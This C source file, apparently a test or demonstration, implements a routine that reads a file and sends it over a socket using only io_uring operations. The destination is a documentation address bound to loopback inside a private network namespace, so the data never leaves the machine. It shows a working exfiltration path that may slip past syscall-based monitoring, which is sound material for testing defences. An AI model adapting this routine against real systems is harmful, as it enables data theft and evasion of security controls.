/* A program that carries a file off by io_uring alone, and the server that it sends it to: an
 * address of the internet, in a network of their own. */
#define _GNU_SOURCE
#include "exfiltrate.h"

#include <arpa/inet.h>
#include <fcntl.h>
#include <net/if.h>
#include <netinet/in.h>
#include <sched.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

#include "report.h"
#include "uring.h"

static const char *const public_address = "203.0.113.9"; /* for documentation: nobody's */
enum { PORT = 443 };

static struct sockaddr_in address(void)
{
	struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(PORT)};

	inet_pton(AF_INET, public_address, &a.sin_addr);
	return a;
}

/* own_network makes a network where the loopback device has the public address. */
static void own_network(void)
{
	struct ifreq r = {.ifr_name = "lo"};
	struct sockaddr_in a = address();

	if (unshare(CLONE_NEWNET))
		die("a network of its own");
	int fd = socket(AF_INET, SOCK_DGRAM, 0);
	memcpy(&r.ifr_addr, &a, sizeof(a));
	if (fd < 0 || ioctl(fd, SIOCSIFADDR, &r))
		die("the address");
	r.ifr_flags = IFF_UP | IFF_LOOPBACK;
	if (ioctl(fd, SIOCSIFFLAGS, &r))
		die("the loopback device");
	close(fd);
}

/* one submits one request and returns its result. */
static long one(struct ring *r, const char *what)
{
	ring_submit(r, 1);
	long ret = ring_result(r);
	if (ret < 0)
		die(what);
	return ret;
}

static int carry_off(const char *file)
{
	static char data[4096];
	struct sockaddr_in to = address();
	struct ring r;

	ring_open(&r, 8, 0, 0);
	ring_sqe(&r, IORING_OP_OPENAT, AT_FDCWD, file, 0, 0, 1)->open_flags = O_RDONLY;
	int fd = (int)one(&r, "openat");
	ring_sqe(&r, IORING_OP_READ, fd, data, sizeof(data), 0, 2);
	long n = one(&r, "read");
	ring_sqe(&r, IORING_OP_CLOSE, fd, NULL, 0, 0, 3);
	one(&r, "close");
	ring_sqe(&r, IORING_OP_SOCKET, AF_INET, NULL, 0, SOCK_STREAM, 4);
	fd = (int)one(&r, "socket");
	ring_sqe(&r, IORING_OP_CONNECT, fd, &to, 0, sizeof(to), 5);
	one(&r, "connect");
	ring_sqe(&r, IORING_OP_SEND, fd, data, (uint32_t)n, 0, 6);
	one(&r, "send");
	ring_sqe(&r, IORING_OP_CLOSE, fd, NULL, 0, 0, 7);
	one(&r, "close");
	return 0;
}

int exfiltrate(const char *file)
{
	struct sockaddr_in a = address();
	char data[4096];

	alarm(30); /* should the child not get there */
	own_network();
	int server = socket(AF_INET, SOCK_STREAM, 0);
	if (bind(server, (struct sockaddr *)&a, sizeof(a)) || listen(server, 1))
		die("the server");
	pid_t child = fork();
	if (!child)
		_exit(carry_off(file));
	int conn = accept(server, NULL, NULL), status = 1;
	for (ssize_t n; (n = read(conn, data, sizeof(data))) > 0;)
		if (write(STDOUT_FILENO, data, (size_t)n) != n)
			die("the output");
	waitpid(child, &status, 0);
	return status != 0;
}
